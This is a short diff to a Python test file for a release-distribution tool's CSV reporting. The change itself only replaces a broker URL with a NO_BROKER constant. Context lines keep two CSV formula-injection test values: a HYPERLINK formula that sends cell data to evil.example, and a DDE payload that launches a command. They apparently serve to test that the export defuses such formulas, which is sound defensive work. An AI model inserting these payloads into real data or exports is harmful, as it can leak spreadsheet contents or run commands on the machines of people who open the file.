@@ -22,7 +22,7 @@ from distributor.errors import NotFound
 from distributor.models import Delivery, Release, Subscriber, utcnow
 from distributor.privacy import erase_person
 from distributor.report import CSV_COLUMNS, csv_cell, delivery_lines, iso_utc, write_csv
-from tests.processes import settings_env
+from tests.processes import NO_BROKER, settings_env
 
 HOSTILE_EMAIL = '=HYPERLINK("https://evil.example/?d="&A1,"x")@example.com'
 HOSTILE_ERROR = "+cmd|' /C calc'!A0"
@@ -242,7 +242,7 @@ def test_an_unknown_release_is_refused_at_once(settings: Settings) -> None:
 
 def test_the_command(sqlite_settings: Settings, tmp_path: Path) -> None:
     ledger = build_ledger(sqlite_settings)
-    env = settings_env(sqlite_settings, DISTRIBUTOR_BROKER_URL="redis://127.0.0.1:1/0")
+    env = settings_env(sqlite_settings, DISTRIBUTOR_BROKER_URL=NO_BROKER)
     rid, target, refused = str(ledger.release_id), tmp_path / "report.csv", tmp_path / "no.csv"
     commands = {
         "summary": [rid],
